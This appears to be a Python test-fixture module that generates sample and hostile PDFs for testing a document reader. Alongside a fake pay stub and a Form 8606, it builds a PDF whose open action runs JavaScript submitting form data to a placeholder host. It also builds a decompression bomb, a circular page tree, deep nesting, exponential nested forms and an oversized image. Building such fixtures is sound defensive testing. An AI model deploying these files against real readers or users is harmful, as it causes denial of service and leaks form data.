"""Files as people send them, and as nobody should: made here, with made-up values."""

from __future__ import annotations

import zlib
from collections.abc import Iterable
from io import BytesIO
from itertools import accumulate

from pypdf import PdfReader, PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject
from reportlab.pdfgen.canvas import Canvas

STUB = (
    "Earnings Statement   Pay Date 11/20/2026   every two weeks", "Current   YTD",
    "Gross Pay   9,615.38   230,769.12", "401(k) Pre-tax   942.31   22,615.44",
    "Employer Match   288.46   6,923.04", "Net Pay   5,201.22   124,829.28",
)  # fmt: skip
LINES_8606 = (
    *("1", "2", "3", "4", "5", "6", "7", "8", "9", "10", "11", "12", "13", "14"),
    *("15a", "15b", "15c", "16", "17", "18"),
)


def pdf(lines: Iterable[str] = STUB) -> bytes:
    out = BytesIO()
    canvas = Canvas(out)
    for number, line in enumerate(lines):
        canvas.drawString(50, 780 - 20 * number, line)
    canvas.save()
    return out.getvalue()


def blank_form(*, year: int = 2026, without: str = "", twice: str = "") -> bytes:
    """A fillable Form 8606 as the official one is laid out: each line's number is printed left of its field."""
    out = BytesIO()
    canvas = Canvas(out)
    form = canvas.acroForm
    canvas.drawString(50, 800, f"Form 8606 Nondeductible IRAs Attach to {year} Form 1040")
    form.textfield(name="name", x=50, y=770, width=200, height=14)
    form.textfield(name="ssn", x=400, y=770, width=120, height=14, maxlen=11)
    for number, line in enumerate(LINES_8606):
        y = 740 - 22 * number
        canvas.drawString(50, y + 3, f"{line} words of the line")
        canvas.drawString(420, y + 3, line)
        if line == without:
            continue
        if line == "10":
            form.textfield(name="f10", x=440, y=y, width=14, height=14, maxlen=1)
            form.textfield(name="f10d", x=460, y=y, width=40, height=14, maxlen=5)
            continue
        form.textfield(name=f"t{number:02}", x=440, y=y, width=80, height=14, maxlen=20)
        if line == twice:
            form.textfield(name="again", x=460, y=y, width=40, height=14)
    canvas.drawString(400, 40, f"Form 8606 ({year})")
    canvas.save()
    return out.getvalue()


def typed(content: bytes) -> dict[str, str]:
    fields = PdfReader(BytesIO(content)).get_fields() or {}
    return {name: str(field.value) for name, field in fields.items() if field.value}


def locked() -> bytes:
    writer = PdfWriter(BytesIO(pdf()))
    writer.encrypt("secret", "owner", algorithm="AES-256")
    return written(writer)


def with_a_program() -> bytes:
    writer = PdfWriter(BytesIO(pdf()))
    program = {"/S": "/JavaScript", "/JS": "app.alert('hello'); this.submitForm('http://example.invalid')"}
    action = DictionaryObject({
        NameObject("/S"): NameObject(program["/S"]), NameObject("/JS"): TextStringObject(program["/JS"]),
    })  # fmt: skip
    writer.root_object[NameObject("/OpenAction")] = action
    return written(writer)


def written(writer: PdfWriter) -> bytes:
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def raw(*objects: bytes) -> bytes:
    """A PDF of these objects, the first of which is its root."""
    parts = [b"%PDF-1.7\n", *(b"%d 0 obj\n%s\nendobj\n" % (n, one) for n, one in enumerate(objects, 1))]
    places = list(accumulate(len(part) for part in parts))[:-1]
    body = b"".join(parts)
    table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    table += b"".join(b"%010d 00000 n \n" % place for place in places)
    return (
        body + table + b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, len(body))
    )


def page_with(content: bytes, *, filters: bytes = b"/FlateDecode") -> bytes:
    return raw(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << >> >>",
        b"<< /Length %d /Filter %s >>\nstream\n%s\nendstream" % (len(content), filters, content),
    )


def bomb() -> bytes:
    """A page whose content is 120 MB, packed twice."""
    packer = zlib.compressobj(9)
    once = b"".join(packer.compress(b" " * 1_000_000) for _ in range(120)) + packer.flush()
    return page_with(zlib.compress(once, 9), filters=b"[/FlateDecode /FlateDecode]")


def wordy() -> bytes:
    """A page of more words than could be read in time."""
    return page_with(zlib.compress(b"BT (7,000.00) Tj ET " * 150_000))


def circle() -> bytes:
    """Pages that are their own children."""
    return raw(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>")


def deep() -> bytes:
    return raw(b"<< /Type /Catalog /Pages 2 0 R >>", b"[" * 50_000 + b"]" * 50_000)


def crowd() -> bytes:
    return raw(b"<< /Type /Catalog /Pages 2 0 R >>", *[b"<< /A 1 >>"] * 60_000)


def forms_in_forms() -> bytes:
    """Forms that draw the next one ten times each, thirty of them deep."""
    resources = b"/Resources << /XObject << /X %d 0 R >> >>"
    draw = b" ".join([b"/X Do"] * 10)
    form = b"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] %s /Length %d >>\nstream\n%s\nendstream"
    return raw(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R " + resources % 5 + b" >>",
        b"<< /Length 5 >>\nstream\n/X Do\nendstream",
        *[form % (resources % (6 + n), len(draw), draw) for n in range(30)],
        b"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Length 12 >>\nstream\nBT (A) Tj ET\nendstream",
    )


def huge_picture() -> bytes:
    """A scan that says of itself to be 30,000 pixels wide and high."""
    pixels = zlib.compress(b"\0" * 1_000_000)
    image = (
        b"<< /Type /XObject /Subtype /Image /Width 30000 /Height 30000 /ColorSpace /DeviceRGB /BitsPerComponent 8 "
    )
    return raw(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 5 0 R "
        b"/Resources << /XObject << /I 4 0 R >> >> >>",
        image + b"/Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (len(pixels), pixels),
        b"<< /Length 5 >>\nstream\n/I Do\nendstream",
    )
